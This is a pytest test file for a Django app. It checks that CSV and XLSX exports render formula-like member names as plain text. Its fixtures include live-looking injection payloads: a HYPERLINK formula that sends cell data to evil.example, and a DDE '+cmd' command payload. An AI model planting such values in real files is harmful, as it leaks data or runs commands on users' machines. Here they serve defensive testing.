"""Exports open safely in a spreadsheet: a formula in a name is text, never a live formula."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from fragola.core.exports import to_csv, to_xlsx
from fragola.registry.models import Person

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HEADER = ["last_name", "phone", "amount", "day"]
ROWS = [
    [HYPERLINK, "+39 035 000000", Decimal("-12.50"), dt.date(2025, 3, 1)],
    ["@SUM(A1:A9)", "-", Decimal("1.00"), None],
    ["+cmd|' /C calc'!A0", "", Decimal("0"), None],
]


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_it_escapes_formulas_in_csv_and_leaves_numbers_and_phones_alone():
    rows = _csv_rows(to_csv(HEADER, ROWS))
    assert rows[0] == HEADER
    assert rows[1] == ["'" + HYPERLINK, "+39 035 000000", "-12.50", "2025-03-01"]
    assert rows[2][0] == "'@SUM(A1:A9)"
    assert rows[3][0] == "'+cmd|' /C calc'!A0"


def test_it_stores_formulas_as_text_in_xlsx():
    sheet = load_workbook(io.BytesIO(to_xlsx(HEADER, ROWS, title="t"))).active
    name = sheet["A2"]
    assert name.value == HYPERLINK  # the name as the member wrote it...
    assert name.data_type == "s"  # ... but text, not a formula
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet["C2"].value == -12.5
    assert sheet["D2"].value.date() == dt.date(2025, 3, 1)


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_it_exports_a_member_named_like_a_formula_as_text(world, client_for, file_format):
    Person.objects.filter(pk=world.alfa_member.person_id).update(last_name=HYPERLINK)
    url = reverse("member_export", args=[world.alfa.pk, file_format])
    content = client_for("alice").get(url).getvalue()
    if file_format == "csv":
        cells = [cell for row in _csv_rows(content) for cell in row]
        assert "'" + HYPERLINK in cells
        assert HYPERLINK not in cells
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        found = [c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
        assert found and all(cell.data_type == "s" for cell in found)
